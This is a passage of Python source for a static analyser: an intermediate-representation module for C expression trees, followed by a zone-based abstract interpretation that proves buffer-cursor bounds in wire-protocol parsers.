    """Peel casts (explicit and implicit)."""
    while e is not None and e.get("k") == "cast":
        e = e["e"]
    return e


def strip_imp(e):
    while e is not None and e.get("k") == "cast" and e.get("imp"):
        e = e["e"]
    return e


def children(e):
    k = e.get("k")
    if k in ("int", "str", "var", "fn", "float", "asm", "vaarg"):
        return ()
    if k == "mem":
        return (e["b"],)
    if k == "idx":
        return (e["b"], e["i"])
    if k in ("un", "cast", "complit"):
        return (e["e"],)
    if k == "bin":
        return (e["l"], e["r"])
    if k == "cond":
        return (e["c"], e["a"], e["b"])
    if k == "call":
        r = []
        if "fp" in e:
            r.append(e["fp"])
        r.extend(e.get("a", []))
        return r
    if k == "decl":
        return (e["init"],) if "init" in e else ()
    if k == "ret":
        return (e["e"],) if "e" in e else ()
    if k == "init":
        return e.get("e", [])
    if k == "other":
        return e.get("ch", [])
    if k == "stmtexpr":
        return (e["last"],) if "last" in e else ()
    return ()


def walk(e):
    """Pre-order walk over an expression tree (all nodes)."""
    if e is None:
        return
    stack = [e]
    while stack:
        n = stack.pop()
        if n is None:
            continue
        yield n
        ch = children(n)
        for c in reversed(list(ch)):
            stack.append(c)


def is_int(e, v=None):
    e = strip(e)
    if e is None or e.get("k") != "int":
        return False
    return v is None or e["v"] == v


def field_key(e):
    """(record, field) of a member access (through casts), else None."""
    e = strip(e)
    if e is not None and e.get("k") == "mem" and "r" in e:
        return (e["r"], e["f"])
    return None


def lvalue_root(e):
    """For an lvalue expression return ('field', (rec, f)) for the innermost
    member written, ('var', node) for a plain variable, ('deref', expr) for a
    store through a pointer, or None."""
    e = strip(e)
    while e is not None:
        k = e.get("k")
        if k == "mem":
            return ("field", (e.get("r", "?"), e["f"]), e)
        if k == "var":
            return ("var", e, e)
        if k == "idx":
            b = strip(e["b"])
            # array element of a field / variable -> weak write of that object
            if b is not None and b.get("k") in ("mem", "var", "idx"):
                e = b
                continue
            return ("deref", b, e)
        if k == "un" and e["op"] == "*":
            return ("deref", strip(e["e"]), e)
        if k == "cast":
            e = e["e"]
            continue
        return None
    return None


ASSIGN_OPS = {"=", "+=", "-=", "*=", "/=", "%=", "|=", "&=", "^=", "<<=", ">>="}


class Function:
    __slots__ = ("name", "qname", "file", "line", "endline", "static", "hdr", "api", "params",
                 "ret", "blocks", "entry", "exit", "bmap", "tu", "preds", "raw", "variadic")

    def __init__(self, raw, tu):
        self.raw = raw
        self.name = raw["name"]
        self.qname = raw["name"]
        self.file = raw["file"]
        self.line = raw["line"]
        self.endline = raw.get("endline", raw["line"])
        self.static = raw.get("static", False)
        self.hdr = raw.get("hdr", False)
        self.api = raw.get("api", False)
        self.params = raw.get("params", [])
        self.ret = raw.get("ret")
        self.variadic = raw.get("variadic", False)
        self.blocks = raw.get("blocks", [])
        self.entry = raw.get("entry")
        self.exit = raw.get("exit")
        self.tu = tu
        self.bmap = {b["id"]: b for b in self.blocks}
        self.preds = {b["id"]: [] for b in self.blocks}
        for b in self.blocks:
            for i, s in enumerate(b["succ"]):
                if s.get("b") is not None:
                    self.preds[s["b"]].append((b["id"], i))

    @property
    def relfile(self):
        return relpath(self.file)

    def elements(self):
        """Yield (block, index, element-dict) for every top-level element and
        (block, 'c', term) for branch conditions."""
        for b in self.blocks:
            for i, el in enumerate(b["el"]):
                yield b, i, el
            t = b.get("term")
            if t and "c" in t:
                yield b, "c", {"ln": t["ln"], "s": t.get("s", ""), "x": t["c"]}

    def exprs(self):
        for b, i, el in self.elements():
            yield b, el["ln"], el["x"]

    def nodes(self):
        for b, ln, x in self.exprs():
            for n in walk(x):
                yield b, ln, n

    def calls(self):
        for b, ln, n in self.nodes():
            if n.get("k") == "call":
                yield b, n.get("ln", ln), n

    def __repr__(self):
        return "<fn %s %s:%s>" % (self.name, self.relfile, self.line)


def relpath(p):
    repo = os.environ.get("VERIF_REPO", REPO)
    if p and p.startswith(repo + "/"):
        return p[len(repo) + 1:]
    return p


_INT_RE = re.compile(r"^\(?\s*(-?\s*(?:0[xX][0-9a-fA-F]+|\d+))\s*[uUlL]*\s*\)?$")


class Program:
    def __init__(self, tus):
        self.tus = tus
        self.functions = {}      # qname -> Function
        self.by_name = {}        # name -> [Function]
        self.records = {}
        self.globals = {}        # name -> [global dict]
        self.macros = {}         # name -> body
        self.flags = set()       # object-like macros defined with an empty body (configuration switches)
        self.enums = {}
        self.fdecls = {}
        for tu in tus:
            self.flags.update(tu.get("flags", []))
            for m in tu.get("macros", []):
                self.macros.setdefault(m["n"], m["b"])
            for en in tu.get("enums", []):
                self.enums[en["n"]] = en["v"]
            for r in tu.get("records", []):
                cur = self.records.get(r["name"])
                if cur is None or len(r["fields"]) > len(cur["fields"]):
                    self.records[r["name"]] = r
            for g in tu.get("globals", []):
                g["tu"] = tu["main"]
                lst = self.globals.setdefault(g["name"], [])
                if not any(x["file"] == g["file"] and x["line"] == g["line"] for x in lst):
                    lst.append(g)
            for d in tu.get("fdecls", []):
                self.fdecls.setdefault(d["name"], d)
            for raw in tu.get("functions", []):
                fn = Function(raw, tu["main"])
                lst = self.by_name.setdefault(fn.name, [])
                dup = [x for x in lst if x.file == fn.file and x.line == fn.line]
                if dup:
                    continue
                lst.append(fn)
        for name, lst in self.by_name.items():
            if len(lst) == 1:
                self.functions[name] = lst[0]
            else:
                for fn in lst:
                    fn.qname = "%s@%s" % (name, relpath(fn.file))
                    self.functions[fn.qname] = fn

    # ---------------------------------------------------------------- lookup
    def fn(self, name, required=True):
        f = self.functions.get(name)
        if f is None:
            lst = self.by_name.get(name)
            if lst and len(lst) == 1:
                f = lst[0]
            elif lst:
                # prefer a non-static definition
                ns = [x for x in lst if not x.static]
                f = ns[0] if len(ns) == 1 else None
        if f is None and required:
            raise AnalysisBroken("anchor function vanished: %s" % name)
        return f

    def resolve_call(self, caller, name):
        """Function object for a direct call by name from `caller` (or None
        when the callee is external / has no body)."""
        lst = self.by_name.get(name)
        if not lst:
            return None
        if len(lst) == 1:
            return lst[0]
        same = [x for x in lst if x.file == caller.file or x.tu == caller.tu]
        if same:
            return same[0]
        ns = [x for x in lst if not x.static]
        return ns[0] if ns else lst[0]

    def const(self, name, required=True, _depth=0):
        """Integer value of an object-like macro or enum constant of the
        project, evaluated from its body (slot filling by name)."""
        if name in self.enums:
            return self.enums[name]
        body = self.macros.get(name)
        if body is None:
            if required:
                raise AnalysisBroken("constant vanished: %s" % name)
            return None
        v = self._eval_macro(body, _depth)
        if v is None and required:
            raise AnalysisBroken("constant not evaluable: %s = %s" % (name, body))
        return v

    def _eval_macro(self, body, depth):
        if depth > 8:
            return None
        toks = re.findall(r"0[xX][0-9a-fA-F]+[uUlL]*|\d+[uUlL]*|[A-Za-z_]\w*|<<|>>|[-+*/|&~()^]", body)
        if "".join(toks).replace(" ", "") != body.replace(" ", ""):
            return None
        # drop casts to integer typedefs: "( uint8_t )"
        INTT = ("int", "unsigned", "uint32", "int32", "uint16", "int16", "uint8_t", "uint16_t",
                "uint32_t", "int32_t", "uint64_t", "int64_t", "psRes_t", "short", "char", "long",
                "psSize_t", "psSizeL_t", "uint64", "int64", "size_t")
        i = 0
        t2 = []
        while i < len(toks):
            if toks[i] == "(":
                j = i + 1
                while j < len(toks) and toks[j] in INTT:
                    j += 1
                if j > i + 1 and j < len(toks) and toks[j] == ")":
                    i = j + 1
                    continue
            t2.append(toks[i])
            i += 1
        toks = t2
        out = []
        for t in toks:
            if re.match(r"^(0[xX][0-9a-fA-F]+|\d+)[uUlL]*$", t):
                out.append(str(int(re.sub(r"[uUlL]+$", "", t), 0)))
            elif re.match(r"^[A-Za-z_]\w*$", t):
                if t in ("int", "unsigned", "uint32", "int32", "uint16", "uint8_t",
                         "uint16_t", "uint32_t", "int32_t", "psRes_t", "short", "char", "long"):
                    return None
                v = self.const(t, required=False, _depth=depth + 1)
                if v is None:
                    return None
                out.append(str(v))
            else:
                out.append(t)
        try:
            return int(eval(" ".join(out).replace("/", "//"), {"__builtins__": {}}, {}))
        except Exception:
            return None

    def defined(self, name):
        """is the object-like macro defined in some translation unit (with or without a value)?"""
        return name in self.flags or name in self.macros

    def const_names(self, prefix):
        """{name: value} for all evaluable constants with the given prefix."""
        res = {}
        for n in list(self.macros) + list(self.enums):
            if n.startswith(prefix):
                v = self.const(n, required=False)
                if v is not None:
                    res[n] = v
        return res

    def record(self, name, required=True):
        r = self.records.get(name)
        if r is None and required:
            raise AnalysisBroken("record vanished: %s" % name)
        return r

    def field(self, rec, fname, required=True):
        r = self.record(rec, required)
        if r:
            for f in r["fields"]:
                if f["n"] == fname:
                    return f
        if required:
            raise AnalysisBroken("field vanished: %s.%s" % (rec, fname))
        return None

    def global_var(self, name, required=True):
        lst = self.globals.get(name)
        if not lst:
            if required:
                raise AnalysisBroken("global vanished: %s" % name)
            return None
        withinit = [g for g in lst if "init" in g]
        return (withinit or lst)[0]


_PROGRAM = None


def load_program(repo=None, only=None):
    global _PROGRAM
    if _PROGRAM is not None and only is None:
        return _PROGRAM
    tus = extract(repo, only=only)
    p = Program(tus)
    if only is None:
        _PROGRAM = p
    return p
