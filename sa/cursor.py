"""Cursor-bounds analysis: a zone (difference-bound) abstract interpretation of wire parsers.

Numeric variables: integer locals / parameters, integer fields used in conditions, and for every (cursor, end) pair
of byte pointers the quantity  A = end - cursor  ("bytes available").  Guards such as `end - c < n`, `c + n > end`,
`len < 4` refine the zone on branch edges; `c++`, `c += n`, `len -= 2` shift it; every dereference / indexed read /
memory-primitive use of a tracked cursor is an obligation  A >= bytes touched.
A (pointer, length) parameter pair is an implicit cursor whose A is assumed >= the length at entry when every call
site in the analysed set proves it (computed by iteration from the roots).
"""
from .ir import strip, walk, ASSIGN_OPS
from .pp import pp
from .zone import Zone, INF
from . import cfgutil as cu

BYTE_PTR = ("unsigned char *", "const unsigned char *", "char *", "const char *", "uint8_t *", "const uint8_t *",
            "uint8 *", "unsigned char *const", "const unsigned char *const")
MEMFNS = {
    # name: [(pointer argument index, length argument index, 'r'|'w')]
    "memcpy": [(0, 2, "w"), (1, 2, "r")], "__builtin_memcpy": [(0, 2, "w"), (1, 2, "r")],
    "__builtin___memcpy_chk": [(0, 2, "w"), (1, 2, "r")],
    "memmove": [(0, 2, "w"), (1, 2, "r")], "__builtin___memmove_chk": [(0, 2, "w"), (1, 2, "r")],
    "memcmp": [(0, 2, "r"), (1, 2, "r")], "__builtin_memcmp": [(0, 2, "r"), (1, 2, "r")],
    "memcmpct": [(0, 2, "r"), (1, 2, "r")],
    "memset": [(0, 2, "w")], "__builtin_memset": [(0, 2, "w")], "__builtin___memset_chk": [(0, 2, "w")],
}


def is_byte_ptr(t):
    t = (t or "").replace("restrict", "").strip()
    return t in BYTE_PTR or (t.endswith("*") and ("char" in t or "uint8" in t) and t.count("*") == 1)


def is_int_type(t):
    t = (t or "")
    if "*" in t or "[" in t or "struct" in t or "union" in t:
        return False
    return any(x in t for x in ("int", "short", "long", "char", "size", "uint", "Size", "bool", "Bool", "_t", "enum"))


def is_unsigned(t):
    t = (t or "")
    return "unsigned" in t or t.startswith("uint") or "psSize" in t or "size_t" in t or t in ("psBool_t", "_Bool")


class Obligation:
    __slots__ = ("fn", "ln", "what", "need", "ok", "detail", "cursor")

    def __init__(self, fn, ln, what, need, ok, detail, cursor):
        self.fn, self.ln, self.what, self.need, self.ok, self.detail, self.cursor = fn, ln, what, need, ok, detail, cursor


class CursorAnalysis:
    def __init__(self, prog, cg, fn, entry_pairs=(), fixed_arrays=True, callee_pairs=None, entry_ends=(), field_bounds=None, entry_unknown=()):
        self.prog, self.cg, self.fn = prog, cg, fn
        self.entry_pairs = list(entry_pairs)        # [(ptr param index, len param index)]
        self.entry_ends = list(entry_ends)          # [(cursor param index, end param index, const lower bound, (len param indexes))]
        self.field_bounds = field_bounds or {}      # field text -> (lo, hi): build-wide invariants (documented assumptions)
        self.entry_unknown = list(entry_unknown)    # parameter indexes that receive a wire cursor with nothing proven
        self.callee_pairs = callee_pairs or {}
        self.keys = {None: 0}
        self.types = {}
        self.ptrs = {}            # var id -> var node (byte pointers)
        self.ends = {}            # cursor var id -> set(end keys)
        self.obligations = []
        self.call_facts = []      # (callee qname, {(i, j): proved})
        self.call_wire = []       # (callee qname, {(i, j): cursor bounded by an end-pointer parameter}, line)
        self.call_ends = []       # (callee qname, {(cursor arg, end arg): (lower bound, covered int args)})
        self.call_tracked = []    # (callee qname, {argument indexes receiving a tracked cursor})
        self.pidx = {p.get("id"): i for i, p in enumerate(fn.params)}
        self.compiled_in = prog.enums.get("v_compiled_in")
        self.implied = []        # [(version mask, field text, lower bound)]: build-wide invariants (documented)
        self.evens = {}
        self._prescan()

    # ------------------------------------------------------------------ variables
    def key(self, k):
        if k not in self.keys:
            self.keys[k] = len(self.keys)
        return self.keys[k]

    def akey(self, cid, ekey):
        return ("A", cid, ekey)

    def _prescan(self):
        fn = self.fn
        for p in fn.params:
            if "id" in p and is_byte_ptr(p.get("t")):
                self.ptrs[p["id"]] = p
            elif "id" in p and (p.get("t") or "").replace(" ", "").endswith("char**"):
                self.ptrs[("d", p["id"])] = p          # the byte pointer *cp
        for b, ln, n in fn.nodes():
            if n.get("k") == "decl":
                v = n.get("var") or {}
                if "id" in v and is_byte_ptr(v.get("t")):
                    self.ptrs[v["id"]] = v
            elif n.get("k") == "var" and "id" in n and is_byte_ptr(n.get("t")):
                self.ptrs.setdefault(n["id"], n)
        # (cursor, end) pairs from comparisons / differences / end = c + n
        pairs = set()

        def tvar(e):
            """("t", text) for a pure field path of byte-pointer type (ssl->fragMessage)"""
            if e is not None and e.get("k") == "mem" and is_byte_ptr(e.get("t")) and self._pure_path(e):
                k_ = ("t", pp(e))
                self.ptrs.setdefault(k_, e)
                return k_
            return None

        def dvar(e):
            """("d", id) for the expression *cp with cp an `unsigned char **` parameter"""
            if e is not None and e.get("k") == "un" and e["op"] == "*":
                v = strip(e["e"])
                if v is not None and v.get("k") == "var" and ("d", v.get("id")) in self.ptrs:
                    return ("d", v["id"])
            return None

        def pv(e):
            e = strip(e)
            if e is not None and e.get("k") == "var" and e.get("id") in self.ptrs:
                return e["id"]
            return dvar(e) or tvar(e)

        def pbase(e):
            """pointer var at the root of p, p + n, p - n"""
            e = strip(e)
            while e is not None:
                if e.get("k") == "var":
                    return e["id"] if e.get("id") in self.ptrs else None
                if e.get("k") == "un" and e["op"] == "*":
                    return dvar(e)
                if e.get("k") == "mem":
                    return tvar(e)
                if e.get("k") == "bin" and e["op"] in ("+", "-"):
                    e = strip(e["l"])
                    continue
                return None
            return None
        self.pbase = pbase
        for b, ln, n in fn.nodes():
            k = n.get("k")
            if k == "bin" and n["op"] == "-":
                e_, c_ = pbase(n["l"]), pbase(n["r"])
                if e_ is not None and c_ is not None and e_ != c_ and "*" in (strip(n["l"]) or {}).get("t", "") \
                        and "*" in (strip(n["r"]) or {}).get("t", ""):
                    pairs.add((c_, ("v", e_)))
            elif k == "bin" and n["op"] in ("<", "<=", ">", ">=", "==", "!="):
                l_, r_ = pbase(n["l"]), pbase(n["r"])
                if l_ is not None and r_ is not None and l_ != r_:
                    # which one is the end?  the one never advanced in the function; decided below (both orders kept)
                    pairs.add((l_, ("v", r_)))
                    pairs.add((r_, ("v", l_)))
            elif k == "bin" and n["op"] == "=":
                e_ = pv(n["l"])
                r = strip(n["r"])
                if e_ is not None and r is not None and r.get("k") == "bin" and r["op"] == "+":
                    c_ = pbase(r)
                    if c_ is not None and c_ != e_:
                        pairs.add((c_, ("v", e_)))
            elif k == "decl" and "init" in n:
                v = n.get("var") or {}
                r = strip(n["init"])
                if v.get("id") in self.ptrs and r is not None and r.get("k") == "bin" and r["op"] == "+":
                    c_ = pbase(r)
                    if c_ is not None and c_ != v["id"]:
                        pairs.add((c_, ("v", v["id"])))
        for (i, j) in self.entry_pairs:
            if i < len(fn.params) and j < len(fn.params):
                pi, pj = fn.params[i], fn.params[j]
                if pi.get("id") in self.ptrs:
                    pairs.add((pi["id"], ("len", pj.get("id"))))
        for (i, j, L, ks) in self.entry_ends:
            if i < len(fn.params) and j < len(fn.params):
                cid = self._param_cursor(fn.params[i])
                if cid is not None and fn.params[j].get("id") in self.ptrs:
                    pairs.add((cid, ("v", fn.params[j]["id"])))
        for i in self.entry_unknown:
            if i < len(fn.params):
                cid = self._param_cursor(fn.params[i])
                if cid is not None and not any(c_ == cid for (c_, e_) in pairs):
                    pairs.add((cid, ("len", None)))
        for c_, e_ in pairs:
            self.ends.setdefault(c_, set()).add(e_)
        # aliases: p = c (+ k)  =>  p shares c's ends and vice versa
        changed = True
        while changed:
            changed = False
            for b, ln, n in fn.nodes():
                l = r = None
                if n.get("k") == "bin" and n["op"] == "=":
                    l, r = pv(n["l"]), pbase(n["r"])
                elif n.get("k") == "decl" and "init" in n:
                    l, r = (n.get("var") or {}).get("id"), pbase(n["init"])
                    if l not in self.ptrs:
                        l = None
                if l is not None and r is not None and l != r:
                    a, b_ = self.ends.setdefault(l, set()), self.ends.setdefault(r, set())
                    # an end of r that is l itself (end = c + n) is not shared
                    add_l = set(x for x in b_ if x != ("v", l)) - a
                    add_r = set(x for x in a if x != ("v", r)) - b_
                    if ("v", l) in b_:
                        add_l = set()
                        add_r = set()
                    if add_l or add_r:
                        a |= add_l
                        b_ |= add_r
                        changed = True
        for c_, es in self.ends.items():
            for e_ in es:
                self.key(self.akey(c_, e_))
                self.key(("G", self.akey(c_, e_)))
        self.ghosts = {}
        # integer variables
        for p in fn.params:
            if "id" in p and is_int_type(p.get("t")):
                self.key(("v", p["id"]))
                self.types[("v", p["id"])] = p.get("t")
        for b, ln, n in fn.nodes():
            if n.get("k") == "decl":
                v = n.get("var") or {}
                if "id" in v and is_int_type(v.get("t")):
                    self.key(("v", v["id"]))
                    self.types[("v", v["id"])] = v.get("t")
            elif n.get("k") == "var" and "id" in n and is_int_type(n.get("t")):
                self.key(("v", n["id"]))
                self.types.setdefault(("v", n["id"]), n.get("t"))
        # integer fields appearing in comparisons or as lengths
        for b in fn.blocks:
            t = b.get("term")
            if t is not None and "c" in t:
                for n in walk(t["c"]):
                    if n.get("k") == "mem" and is_int_type(n.get("t")) and self._pure_path(n):
                        self.key(("f", pp(n)))
                        self.types[("f", pp(n))] = n.get("t")
        self.nvars = len(self.keys)

    def _param_cursor(self, p):
        if p.get("id") in self.ptrs:
            return p["id"]
        if ("d", p.get("id")) in self.ptrs:
            return ("d", p["id"])
        return None

    def _pure_path(self, n):
        x = n
        while x is not None:
            x = strip(x)
            if x is None:
                return False
            if x.get("k") == "var":
                return True
            if x.get("k") == "mem":
                x = x["b"]
                continue
            return False
        return False

    # ------------------------------------------------------------------ linear forms
    def lin(self, e):
        """(key | None, const) or None"""
        e = strip(e)
        if e is None:
            return None
        k = e.get("k")
        if k == "int":
            return (None, e["v"])
        if k == "var" and "id" in e and ("v", e["id"]) in self.keys:
            return (("v", e["id"]), 0)
        if k == "mem":
            kk = ("f", pp(e))
            if kk in self.keys:
                return (kk, 0)
            return None
        if k == "bin" and e["op"] in ("+", "-"):
            lt = (strip(e["l"]) or {}).get("t", "")
            rt = (strip(e["r"]) or {}).get("t", "")
            if "*" in lt and "*" in rt and e["op"] == "-":
                e_, c_ = self.pbase(e["l"]), self.pbase(e["r"])
                if e_ is None or c_ is None:
                    return None
                ak = self.akey(c_, ("v", e_))
                if ak not in self.keys:
                    return None
                oe, oc = self.poff(e["l"]), self.poff(e["r"])
                if oe is None or oc is None or oe[0] is not None or oc[0] is not None:
                    return None
                return (ak, oe[1] - oc[1])
            a, b = self.lin(e["l"]), self.lin(e["r"])
            if a is None or b is None:
                return None
            if e["op"] == "+":
                if a[0] is None:
                    return (b[0], a[1] + b[1])
                if b[0] is None:
                    return (a[0], a[1] + b[1])
                return None
            if b[0] is None:
                return (a[0], a[1] - b[1])
            if a[0] == b[0]:
                return (None, a[1] - b[1])
            return None
        if k == "un" and e["op"] == "-":
            a = self.lin(e["e"])
            if a is not None and a[0] is None:
                return (None, -a[1])
            return None
        if k == "call" and e.get("fn") == "__builtin_expect" and e.get("a"):
            return self.lin(e["a"][0])
        return None

    def poff(self, e):
        """offset (key|None, const) of pointer expression p + off relative to its root pointer var"""
        e = strip(e)
        if e is None:
            return None
        if e.get("k") == "var":
            return (None, 0)
        if e.get("k") == "un" and e["op"] == "*":
            return (None, 0)
        if e.get("k") == "mem":
            return (None, 0)
        if e.get("k") == "bin" and e["op"] in ("+", "-"):
            base = self.poff(e["l"])
            off = self.lin(e["r"])
            if base is None or off is None:
                return None
            sgn = 1 if e["op"] == "+" else -1
            if base[0] is None:
                if off[0] is None:
                    return (None, base[1] + sgn * off[1])
                if sgn == 1:
                    return (off[0], base[1] + off[1])
                return None
            if off[0] is None:
                return (base[0], base[1] + sgn * off[1])
            return None
        return None

    # ------------------------------------------------------------------ conditions
    def constraints(self, c, truth, z):
        """list of (ikey, jkey, c): v_i - v_j <= c implied when condition c has the given truth"""
        c = strip(c)
        if c is None:
            return []
        k = c.get("k")
        if k == "un" and c["op"] == "!":
            return self.constraints(c["e"], not truth, z)
        if k == "bin" and c["op"] == "&&":
            if truth:
                return self.constraints(c["l"], True, z) + self.constraints(c["r"], True, z)
            return []
        if k == "bin" and c["op"] == "||":
            if not truth:
                return self.constraints(c["l"], False, z) + self.constraints(c["r"], False, z)
            return []
        if k == "call" and c.get("fn") == "__builtin_expect" and c.get("a"):
            return self.constraints(c["a"][0], truth, z)
        if k == "bin" and c["op"] in ("<", "<=", ">", ">=", "==", "!="):
            op = c["op"]
            if not truth:
                op = {"<": ">=", "<=": ">", ">": "<=", ">=": "<", "==": "!=", "!=": "=="}[op]
            lt = (strip(c["l"]) or {}).get("t", "")
            rt = (strip(c["r"]) or {}).get("t", "")
            if "*" in lt and "*" in rt:
                # pointer comparison: (c + off) OP end   <=>  off OP A(c,end)
                pl, pr = self.pbase(c["l"]), self.pbase(c["r"])
                if pl is None or pr is None:
                    return []
                ol, or_ = self.poff(c["l"]), self.poff(c["r"])
                if ol is None or or_ is None:
                    return []
                out = []
                if self.akey(pl, ("v", pr)) in self.keys and or_ == (None, 0):
                    out += self._cmp(ol, op, (self.akey(pl, ("v", pr)), 0), z)
                if self.akey(pr, ("v", pl)) in self.keys and ol == (None, 0):
                    rop = {"<": ">", "<=": ">=", ">": "<", ">=": "<=", "==": "==", "!=": "!="}[op]
                    out += self._cmp(or_, rop, (self.akey(pr, ("v", pl)), 0), z)
                return out
            a, b = self.lin(c["l"]), self.lin(c["r"])
            if a is None or b is None:
                return []
            return self._cmp(a, op, b, z)
        if k == "bin" and c["op"] == "&":
            l_, r_ = strip(c["l"]), strip(c["r"])
            # (ssl->activeVersion & K) with no compiled-in version in K can never be true
            if truth and self.compiled_in is not None and l_ is not None and l_.get("k") == "mem" \
                    and l_.get("f") == "activeVersion" and r_ is not None and r_.get("k") == "int" \
                    and r_["v"] != 0 and (r_["v"] & ~0xfff) == 0 and (r_["v"] & self.compiled_in) == 0:
                # K consists of protocol-version bits only (bits 0..11; not the v_tls_negotiated flag)
                return [(None, None, -1)]
            if truth and l_ is not None and l_.get("k") == "mem" and l_.get("f") == "activeVersion" \
                    and r_ is not None and r_.get("k") == "int":
                out_ = []
                for (mask, txt, lo) in self.implied:
                    if r_["v"] & ~mask == 0 and ("f", txt) in self.keys:
                        out_.append((None, ("f", txt), -lo))
                if out_:
                    return out_
            # parity test: (x & 1) false  =>  x even
            if r_ is not None and r_.get("k") == "int" and r_["v"] == 1 and truth:
                a = self.lin(l_)
                if a is not None and a[0] is not None:
                    self._new_evens[a[0]] = (a[1] + 1) % 2
            if r_ is not None and r_.get("k") == "int" and r_["v"] == 1 and not truth:
                a = self.lin(l_)
                if a is not None and a[0] is not None:
                    self._new_evens[a[0]] = a[1] % 2
            return []
        # truth value of an integer expression
        a = self.lin(c)
        if a is not None and a[0] is not None:
            return self._cmp(a, "!=" if truth else "==", (None, 0), z)
        return []

    def _cmp(self, a, op, b, z):
        (ka, ca), (kb, cb) = a, b
        if ka == kb:
            return []
        out = []
        if op == "<":
            out.append((ka, kb, cb - ca - 1))
        elif op == "<=":
            out.append((ka, kb, cb - ca))
        elif op == ">":
            out.append((kb, ka, ca - cb - 1))
        elif op == ">=":
            out.append((kb, ka, ca - cb))
        elif op == "==":
            out.append((ka, kb, cb - ca))
            out.append((kb, ka, ca - cb))
        elif op == "!=":
            # x != k  with x >= k known  =>  x >= k + 1   (and symmetric)
            if kb is None and ka is not None and z is not None and not z.bottom:
                i = self.keys[ka]
                if z.lower(i) + ca >= cb:
                    out.append((None, ka, -(cb - ca + 1)))
                elif z.upper(i) + ca <= cb:
                    out.append((ka, None, cb - ca - 1))
        return out

    # ------------------------------------------------------------------ state helpers
    def top(self):
        z = Zone(self.nvars)
        for k, i in self.keys.items():
            if k is None:
                continue
            if k[0] in ("v", "f") and is_unsigned(self.types.get(k)):
                z.add(0, i, 0)                     # v >= 0
                t = self.types.get(k) or ""
                if "char" in t or "uint8" in t:
                    z.add(i, 0, 255)
                elif "short" in t or "16" in t or "psSize_t" in t:
                    z.add(i, 0, 65535)
        return z

    def entry_state(self):
        z = self.top()
        fn = self.fn
        for (i, j) in self.entry_pairs:
            pi, pj = fn.params[i], fn.params[j]
            ak = self.akey(pi["id"], ("len", pj.get("id")))
            if ak in self.keys and ("v", pj.get("id")) in self.keys:
                # A >= len
                z.add(self.keys[("v", pj["id"])], self.keys[ak], 0)
        for (i, j, L, ks) in self.entry_ends:
            cid = self._param_cursor(fn.params[i])
            ak = self.akey(cid, ("v", fn.params[j].get("id")))
            if ak not in self.keys:
                continue
            if L is not None and L != -INF:
                z.add(0, self.keys[ak], -L)
            for k_ in ks:
                kk = ("v", fn.params[k_].get("id"))
                if kk in self.keys:
                    z.add(self.keys[kk], self.keys[ak], 0)
        for txt, (lo, hi) in self.field_bounds.items():
            kk = ("f", txt)
            if kk in self.keys:
                if lo is not None:
                    z.add(0, self.keys[kk], -lo)
                if hi is not None:
                    z.add(self.keys[kk], 0, hi)
        return z

    def apply(self, z, cons):
        for (ka, kb, c) in cons:
            if ka is None and kb is None:
                if c < 0:
                    z.bottom = True
                continue
            z.add(self.keys[ka], self.keys[kb], c)
        self.bump_evens(z)

    def bump_evens(self, z):
        """a quantity of known parity whose lower bound has the other parity is at least one more"""
        if z.bottom:
            return
        for k, par in list(self.evens.items()):
            i = self.keys.get(k)
            if i is None:
                continue
            lo = z.lower(i)
            if lo != -INF and int(lo) % 2 != par:
                z.add(0, i, -(lo + 1))

    def _par_of(self, off):
        """parity of a linear form (key|None, const) or None"""
        if off is None:
            return None
        if off[0] is None:
            return off[1] % 2
        p = self.evens.get(off[0])
        return None if p is None else (p + off[1]) % 2

    def _par_shift(self, key, off, sign=1):
        p = self.evens.get(key)
        q = self._par_of(off)
        if p is None or q is None:
            self.evens.pop(key, None)
        else:
            self.evens[key] = (p + q) % 2

    def avail_keys(self, cid):
        return [self.akey(cid, e_) for e_ in self.ends.get(cid, ())]

    def shift_cursor(self, z, cid, off):
        """cursor := cursor + off  (off = (key|None, const))"""
        self.eqs = {k: v for k, v in getattr(self, "eqs", {}).items() if k != cid and v[0] != cid}
        for ak in self.avail_keys(cid):
            i = self.keys[ak]
            self._par_shift(ak, off)
            if off[0] is None:
                z.shift(i, -off[1])
                if ak in self.ghosts:
                    g_, o_ = self.ghosts[ak]
                    self.ghosts[ak] = (g_, (o_[0], o_[1] + off[1]))
            else:
                j = self.keys[off[0]]
                # ghost copy of the old value: A_new = G - off  (used by a following `len -= off + k`)
                g = self.keys[("G", ak)]
                z.forget(g)
                z.add(g, i, 0)
                z.add(i, g, 0)
                self.ghosts[ak] = (("G", ak), off)
                # A' = A - (v_j + c): only bounds survive
                lo = -z.diff_upper(j, i) - off[1]       # lower bound of A - v_j  = -(upper of v_j - A)
                hi = z.diff_upper(i, j) - off[1]
                z.forget(i)
                if lo != -INF:
                    z.add(0, i, -lo)
                if hi != INF:
                    z.add(i, 0, hi)
        # pairs in which this pointer is the END of another cursor
        for c2, es in self.ends.items():
            if ("v", cid) in es:
                ak2 = self.akey(c2, ("v", cid))
                i = self.keys[ak2]
                self._par_shift(ak2, off)
                if off[0] is None:
                    z.shift(i, off[1])
                else:
                    z.forget(i)

    def forget_cursor(self, z, cid):
        for ak in self.avail_keys(cid):
            self.ghosts.pop(ak, None)
            z.forget(self.keys[ak])
            self.evens.pop(ak, None)
        for c2, es in self.ends.items():
            if ("v", cid) in es:
                z.forget(self.keys[self.akey(c2, ("v", cid))])
                self.evens.pop(self.akey(c2, ("v", cid)), None)

    def need(self, z, cid, n, ln, what):
        """obligation: some A(cid, *) >= n   (n = (key|None, const))"""
        ok = False
        detail = []
        if z.bottom:
            ok = True
        for ak in self.avail_keys(cid):
            i = self.keys[ak]
            if n[0] is None:
                lo = z.lower(i)
                detail.append("%s >= %s" % (self._kname(ak), lo))
                if lo >= n[1]:
                    ok = True
            else:
                j = self.keys[n[0]]
                d = z.diff_upper(j, i)            # v_j - A <= d  =>  A >= v_j - d
                detail.append("%s >= %s - %s" % (self._kname(ak), self._kname(n[0]), d))
                if d + n[1] <= 0:
                    ok = True
                elif z.upper(j) != INF and z.lower(i) >= z.upper(j) + n[1]:
                    ok = True
        self.obligations.append(Obligation(self.fn, ln, what, self._nname(n), ok, "; ".join(detail) or "no (cursor, end) pair", cid))
        return ok

    def _kname(self, k):
        if k is None:
            return "0"
        if k[0] == "v" and isinstance(k[1], tuple):
            if k[1][0] == "t":
                return k[1][1]
            return "*" + self._kname(("v", k[1][1]))
        if k[0] == "v":
            for p in self.fn.params:
                if p.get("id") == k[1]:
                    return p.get("n")
            for b, ln, n in self.fn.nodes():
                if n.get("k") == "var" and n.get("id") == k[1]:
                    return n["n"]
